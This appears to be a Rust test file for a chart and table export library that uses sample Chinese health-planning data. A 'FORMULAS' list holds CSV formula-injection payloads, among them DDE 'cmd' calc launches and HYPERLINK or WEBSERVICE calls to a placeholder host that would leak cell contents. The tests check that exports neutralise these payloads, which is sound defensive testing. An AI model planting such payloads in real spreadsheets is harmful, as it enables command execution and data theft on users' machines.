//! Tables, charts and sheets of paper come out exact, safe and drawn: csv, text, SVG, PNG, PDF, xlsx.

mod ahead;
mod pictures;
mod sheet;
mod sheet_paper;
use duibiao::{
    base::{Align, Cell, Chart, ChartMilestone, ChartPoint, ChartRole, ChartSeries, Decimal, Table},
    report::{
        CHART_HEIGHT, CHART_WIDTH, DPI_LIMITS, ReportError, chart_csv, chart_png, chart_svg, fonts,
        formula_guarded, formula_unguarded, table_csv, table_text,
    },
};

fn point(year: i32, value: &str) -> ChartPoint {
    let y: f64 = value.parse().unwrap();
    let read_out = vec![format!("{year}年"), format!("{value} 张/千人")];
    ChartPoint {
        period: year.to_string(),
        x: f64::from(year),
        y,
        exact: value.to_owned(),
        shown: value.to_owned(),
        read_out,
        hollow: false,
    }
}

fn hollow(year: i32, value: &str) -> ChartPoint {
    let mut point = point(year, value);
    point.hollow = true;
    point.read_out.push("45/47 家已填".to_owned());
    point
}

fn run(points: &[(i32, &str)]) -> Vec<ChartPoint> {
    points.iter().map(|(year, value)| point(*year, value)).collect()
}

fn series(role: ChartRole, name: &str, runs: Vec<Vec<ChartPoint>>) -> ChartSeries {
    ChartSeries::new(role, name, runs)
}

/// Makes a target as `trend` does: a level line from the first year to the due, one run per line.
fn target(name: &str, first: i32, due: i32, levels: &[&str]) -> ChartSeries {
    let runs = levels
        .iter()
        .map(|level| vec![ChartPoint { x: f64::from(first), ..point(due, level) }, point(due, level)]);
    series(ChartRole::Target, name, runs.collect())
}

fn chart(title: &str, unit: &str, years: (i32, i32), series: Vec<ChartSeries>) -> Chart {
    let mut chart = Chart {
        title: title.to_owned(),
        subtitle: "示例市".to_owned(),
        unit: unit.to_owned(),
        foot:
            "呼政办发〔2024〕53号 表1 · 预期性 · 实有床位 ÷ 年末常住人口 × 1000 · 示例数据 · 制图 2026-11-22"
                .to_owned(),
        series,
        years,
        ..Chart::default()
    };
    chart.fit_values();
    chart
}

fn beds() -> Chart {
    let mut actual = run(&[(2020, "6.42"), (2021, "6.48"), (2022, "6.61"), (2023, "6.76")]);
    actual.push(hollow(2024, "6.90"));
    let path = run(&[
        (2020, "6.42"),
        (2021, "6.636"),
        (2022, "6.852"),
        (2023, "7.068"),
        (2024, "7.284"),
        (2025, "7.5"),
    ]);
    chart(
        "每千人口医疗卫生机构床位数",
        "张/千人",
        (2020, 2026),
        vec![
            series(ChartRole::Actual, "实际", vec![actual]),
            series(ChartRole::Path, "计划路径", vec![path]),
            target("目标 ≥ 7.5", 2020, 2025, &["7.5"]),
        ],
    )
}

fn ratio() -> Chart {
    let mut actual = run(&[(2020, "1.02"), (2021, "1.05"), (2022, "1.09"), (2023, "1.12"), (2024, "1.10")]);
    for point in &mut actual {
        point.shown = format!("1 : {}", point.shown);
    }
    let path = run(&[(2020, "1.02"), (2025, "1.2")]);
    chart(
        "医护比",
        "",
        (2020, 2025),
        vec![
            series(ChartRole::Actual, "实际", vec![actual]),
            series(ChartRole::Path, "计划路径", vec![path]),
            target("目标 1 : 1.2", 2020, 2025, &["1.2"]),
        ],
    )
}

fn long_series() -> Chart {
    let first = run(&[(2010, "42.1"), (2011, "44.0"), (2012, "43.2"), (2013, "47.9"), (2014, "51.3")]);
    let mut second = run(&[
        (2017, "55.0"),
        (2018, "54.1"),
        (2019, "58.8"),
        (2020, "49.5"),
        (2021, "52.7"),
        (2022, "57.3"),
    ]);
    second.push(hollow(2023, "61.0"));
    second.push(hollow(2024, "63.4"));
    chart(
        "县域内就诊率",
        "%",
        (2010, 2030),
        vec![
            series(ChartRole::Actual, "实际", vec![first, second]),
            target("目标 ≥ 65", 2010, 2025, &["65"]),
            target("目标 ≥ 70", 2010, 2027, &["70"]),
            target("目标 ≥ 71", 2010, 2030, &["71"]),
        ],
    )
}

fn printed() -> Chart {
    let span = vec![
        ChartPoint { period: "2016/2018".to_owned(), ..point(2016, "5.2") },
        ChartPoint { period: "2016/2018".to_owned(), ..point(2018, "5.2") },
    ];
    let mut chart = chart(
        "每千人口执业(助理)医师数",
        "人/千人",
        (2016, 2030),
        vec![
            series(ChartRole::Actual, "实际", vec![run(&[(2021, "3.31"), (2022, "3.45"), (2023, "3.58")])]),
            series(
                ChartRole::Printed,
                "规划所载",
                vec![span, run(&[(2020, "3.29")]), run(&[(2022, "3.40")])],
            ),
            target("目标 3.8—4.2", 2016, 2025, &["3.8", "4.2"]),
        ],
    );
    chart.milestones = [
        (2024.1, "规划印发"),
        (2025.0, "中期评估"),
        (2025.3, "紧密型县域医共体全面建成"),
        (2025.5, "区域医疗中心投入使用"),
        (2029.9, "终期评估与下一轮规划编制启动"),
    ]
    .map(|(x, name)| ChartMilestone { x, name: name.to_owned() })
    .to_vec();
    chart
}

fn english() -> Chart {
    let mut chart = beds();
    chart.title =
        "Beds in medical and health institutions per thousand permanent residents at the end of the year, \
                   all counties and banners of the city"
            .to_owned();
    chart.subtitle = "Example city".to_owned();
    chart.unit = "beds per 1 000 persons".to_owned();
    chart.foot = format!(
        "{} · {}",
        chart.foot,
        "卫生健康统计年报 卫健统1-1表 按年末实有床位计,不含观察床与待产床".repeat(6)
    );
    chart.series[2].name = "Target ≥ 7.5".to_owned();
    chart.series[1].name = "Planned path".to_owned();
    chart
}

fn crowded() -> Chart {
    let months = (0..120).map(|month| {
        let x = 2015.0 + f64::from(month) / 12.0;
        let y = 1200.0 + f64::from((month * 37) % 50) * 4.0 + f64::from(month) * 3.0;
        ChartPoint { x, y, exact: y.to_string(), shown: y.to_string(), ..point(2015, "1") }
    });
    let months: Vec<ChartPoint> = months.collect();
    let mut names: Vec<ChartSeries> = (0..9)
        .map(|at| {
            target(
                &format!("目标 第{at}类机构每万人口床位 ≥ {}", 1500 + at),
                2015,
                2025,
                &[&(1500 + at).to_string()],
            )
        })
        .collect();
    names.insert(0, series(ChartRole::Actual, "实际", vec![months]));
    chart("出院人次", "万人次", (2015, 2025), names)
}

fn only(points: &[(i32, &str)], years: (i32, i32)) -> Chart {
    chart("千人口床位", "张", years, vec![series(ChartRole::Actual, "实际", vec![run(points)])])
}

fn pictures() -> Vec<(&'static str, Chart)> {
    vec![
        ("beds", beds()),
        ("one-point", only(&[(2024, "6.90")], (2023, 2025))),
        (
            "no-target",
            only(
                &[(2019, "12"), (2020, "18"), (2021, "9"), (2022, "31"), (2023, "30"), (2024, "31")],
                (2019, 2024),
            ),
        ),
        ("ratio", ratio()),
        ("twelve-years", long_series()),
        ("printed", printed()),
        ("english", english()),
        ("crowded", crowded()),
        ("negative", only(&[(2020, "-3.5"), (2021, "0"), (2022, "2.25"), (2023, "-1.0")], (2020, 2023))),
        ("empty", chart("没有数的指标", "%", (2020, 2025), Vec::new())),
        ("nothing-at-all", Chart::default()),
    ]
}

fn sample_table() -> Table {
    let mut table = Table::new(
        "每千人口床位数",
        [
            ("period", "报告期".to_owned(), Align::Left),
            ("unit", "机构".to_owned(), Align::Left),
            ("beds", "床位(张)".to_owned(), Align::Right),
            ("gap", "差距".to_owned(), Align::Right),
        ],
    );
    let row = |year: &str, name: &str, beds: i64, gap: Option<Decimal>| {
        vec![
            Cell::coded(year, format!("{year}年")),
            Cell::text(name),
            Cell::number(Decimal::from(beds), 0),
            Cell::number_or_empty(gap, 2),
        ]
    };
    table.push(row("2024", "示例市人民医院", 17_222, Some(Decimal::new(-3846, 4))));
    table.push(row("2025", "A县, \"新院\"", 0, None));
    table
}

#[test]
fn csv_holds_names_and_exact_values() {
    assert_eq!(
        table_csv(&sample_table()),
        "period,unit,beds,gap\n2024,示例市人民医院,17222,-0.3846\n2025,\"A县, \"\"新院\"\"\",0,\n",
    );
}

#[test]
fn text_lines_up_with_wide_characters() {
    let expected = "\
每千人口床位数

报告期  机构            床位(张)   差距
------  --------------  --------  -----
2024年  示例市人民医院    17\u{2009}222  \u{2212}0.38
2025年  A县, \"新院\"            0
";
    assert_eq!(table_text(&sample_table()), expected);
}

#[test]
fn text_cannot_be_broken_or_steered_by_a_cell() {
    let mut table = Table::plain(&["note"]);
    table.push(vec![Cell::text("a\r\nb\tc\u{1b}[2Jd\u{202e}e")]);
    assert_eq!(table_text(&table), "note\n-----------\na b c [2Jde\n");
}

#[test]
fn tables_without_rows_or_with_short_rows_keep_their_shape() {
    let mut table = Table::plain(&["a", "b"]);
    assert_eq!(table_csv(&table), "a,b\n");
    assert_eq!(table_text(&table), "a  b\n-  -\n");
    table.rows.push(vec![Cell::text("x")]);
    assert_eq!(table_csv(&table), "a,b\nx,\n");
    assert_eq!(table_text(&table), "a  b\n-  -\nx\n");
}

const FORMULAS: [&str; 26] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.invalid?\"&A1,\"点此\")",
    "=WEBSERVICE(\"http://x.invalid\")",
    "=IMPORTXML(CONCAT(\"http://x.invalid\"),\"//a\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@INDIRECT(\"A1\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=\"a\",\"b\"",
    "=1+1\n第二行",
    "'=1+1",
    "''=1+1",
    "-",
    "--",
    "=",
];

#[test]
fn formulas_from_elsewhere_stay_words() {
    for payload in FORMULAS {
        let mut table = Table::plain(&["note", "after"]);
        table.push(vec![Cell::text(payload), Cell::text("ok")]);
        let text = table_csv(&table);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let records: Vec<csv::StringRecord> = reader.records().map(|record| record.unwrap()).collect();
        assert_eq!(records.len(), 1, "{payload:?} is one row");
        let field = &records[0][0];
        assert_eq!(field, format!("'{payload}"), "{payload:?} is guarded");
        assert_eq!(formula_unguarded(field), payload, "{payload:?} comes back");
        assert_eq!(&records[0][1], "ok", "{payload:?} leaves its neighbour alone");
    }
}

#[test]
fn harmless_words_and_true_numbers_are_not_touched() {
    for words in ["示例市", "'90年代", "a=b", " =1", "3-5", "", "—", "\u{2212}5"] {
        assert_eq!(formula_guarded(words), words);
        assert_eq!(formula_unguarded(words), words);
    }
    let mut table = Table::plain(&["value"]);
    table.push(vec![Cell::number(Decimal::new(-15, 1), 1)]);
    let lie = Cell { shown: String::new(), exact: "=1+1".to_owned(), is_number: true };
    table.push(vec![lie]);
    assert_eq!(table_csv(&table), "value\n-1.5\n'=1+1\n");
}

#[test]
fn chart_csv_has_every_point_once_and_targets_at_their_due() {
    assert_eq!(
        chart_csv(&printed()),
        "period,series,value\n2021,actual,3.31\n2022,actual,3.45\n2023,actual,3.58\n2016/2018,actual,5.2\n\
         2020,actual,3.29\n2022,actual,3.40\n2025,target,3.8\n2025,target,4.2\n",
    );
    assert_eq!(
        chart_csv(&ratio()),
        "period,series,value\n2020,actual,1.02\n2021,actual,1.05\n2022,actual,1.09\n2023,actual,1.12\n\
         2024,actual,1.10\n2020,path,1.02\n2025,path,1.2\n2025,target,1.2\n",
    );
    assert_eq!(chart_csv(&Chart::default()), "period,series,value\n");
}

/// Gives the words of an SVG, in order.
fn words_of(svg: &str) -> Vec<String> {
    let texts = svg.split("<text ").skip(1).filter_map(|rest| rest.split_once('>')?.1.split_once("</text>"));
    texts.map(|(words, _)| words.trim_matches('\n').to_owned()).collect()
}

#[test]
fn svg_says_what_the_chart_says() {
    for (name, chart) in [("beds", beds()), ("ratio", ratio()), ("printed", printed())] {
        let svg = chart_svg(&chart);
        let words = words_of(&svg);
        let has = |wanted: &str| {
            assert!(words.iter().any(|words| words.contains(wanted)), "{name}: {wanted} in {words:?}")
        };
        has(&chart.title);
        has(&chart.unit);
        has(&chart.subtitle);
        for (series, point) in chart.points() {
            match series.role {
                ChartRole::Actual | ChartRole::Printed => has(&point.shown),
                ChartRole::Path | ChartRole::Target | ChartRole::Forecast => has(&series.name),
                ChartRole::Low | ChartRole::High => {}
            }
        }
        for milestone in &chart.milestones {
            has(&milestone.name);
        }
        for year in [chart.years.0, chart.years.1] {
            assert!(
                words.contains(&year.to_string()) || chart.years.1 - chart.years.0 >= 12,
                "{name}: {year}"
            );
        }
        assert!(svg.contains("font-family=\"Noto Sans SC, Microsoft YaHei"), "{name}");
        assert_eq!(svg, chart_svg(&chart), "{name}: the same chart gives the same bytes");
    }
    assert!(words_of(&chart_svg(&beds())).contains(&"45/47 家已填".to_owned()));
    assert!(words_of(&chart_svg(&beds())).contains(&"2025年".to_owned()));
}

/// Gives every text of an SVG with the box it takes when drawn with the bundled fonts, in points.
fn boxes(svg: &str) -> Vec<(String, [f32; 4])> {
    use resvg::usvg::{Group, Node, Options, Tree, fontdb::Database};
    fn collect(group: &Group, into: &mut Vec<(String, [f32; 4])>) {
        for node in group.children() {
            match node {
                Node::Group(group) => collect(group, into),
                Node::Text(text) => {
                    let words: String = text.chunks().iter().map(|chunk| chunk.text()).collect();
                    let area = text.abs_bounding_box();
                    into.push((words, [area.left(), area.top(), area.right(), area.bottom()]));
                }
                Node::Path(_) | Node::Image(_) => {}
            }
        }
    }
    let mut fonts = Database::new();
    fonts.load_font_data(fonts::NOTO_SANS_SC_REGULAR.to_vec());
    fonts.load_font_data(fonts::NOTO_SANS_SC_SEMIBOLD.to_vec());
    let options = Options { fontdb: std::sync::Arc::new(fonts), ..Options::default() };
    let tree = Tree::from_str(svg, &options).unwrap();
    let mut found = Vec::new();
    collect(tree.root(), &mut found);
    found
}

/// Names what leaves the sheet and what meets; a line's height is a quarter free above and below the characters.
fn faults(boxes: &[(String, [f32; 4])]) -> Vec<String> {
    let mut faults = Vec::new();
    for (at, (words, a)) in boxes.iter().enumerate() {
        if a[0] < 0.0 || a[1] < 0.0 || a[2] > CHART_WIDTH as f32 || a[3] > CHART_HEIGHT as f32 {
            faults.push(format!("{words} leaves the sheet at {a:?}"));
        }
        for (other, b) in &boxes[at + 1..] {
            let (a_quarter, b_quarter) = ((a[3] - a[1]) / 4.0, (b[3] - b[1]) / 4.0);
            let across = a[2].min(b[2]) - a[0].max(b[0]);
            let down = (a[3] - a_quarter).min(b[3] - b_quarter) - (a[1] + a_quarter).max(b[1] + b_quarter);
            if across > 0.0 && down > 0.0 {
                faults.push(format!("{words} {a:?} meets {other} {b:?}"));
            }
        }
    }
    faults
}
